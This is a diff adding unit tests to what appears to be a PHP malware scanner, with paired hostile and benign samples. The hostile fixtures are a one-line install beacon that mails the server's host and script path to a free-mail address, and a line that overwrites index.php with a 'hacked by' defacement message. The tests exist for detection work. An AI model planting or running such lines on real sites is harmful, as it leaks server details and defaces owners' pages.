@@ -306,3 +306,17 @@ foreach (get_users() as $u) {
   const login = `<?php\n$user = wp_signon(array('user_login' => $l, 'user_password' => $p));\nif (!is_wp_error($user) && user_can($user, 'administrator')) wp_set_auth_cookie($user->ID);\n`;
   assert.equal(findingOf('login.php', login), undefined);
 });
+
+test('php: an install beacon mails the server location to a free-mail box; a contact form mailing the site owner does not count', () => {
+  const beacon = `<?php $to = "someone.123@gmail.com"; $body = $_SERVER['HTTP_HOST'] . "\\n" . $_SERVER['SCRIPT_FILENAME']; mail($to, "new", $body); echo "ok";`;
+  assert.deepEqual(reasons(findingOf('b.php', beacon)), ["mails this server's host name and script location to a free-mail address (someone.123@gmail.com): install beacon"]);
+  const contact = `<?php $body = "From " . $_SERVER['REMOTE_ADDR'] . " on " . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'] . ": " . strip_tags($_POST['msg']); mail("webmaster@example.org", "Contact form", $body);`;
+  assert.equal(findingOf('c.php', contact), undefined);
+});
+
+test('php: a "hacked by" page written over the front page is defacement; an empty index.html guard is not', () => {
+  const deface = `<?php $fp = fopen("index.php", "w"); fputs($fp, "HACKed by nobody"); fclose($fp);`;
+  assert.deepEqual(reasons(findingOf('d.php', deface)), ['overwrites the site\'s front page with a "hacked by" message (defacement)']);
+  const guard = `<?php // stops directory listing in the upload folder\n$fp = fopen("uploads/index.html", "w"); fwrite($fp, ""); fclose($fp);`;
+  assert.equal(findingOf('e.php', guard), undefined);
+});
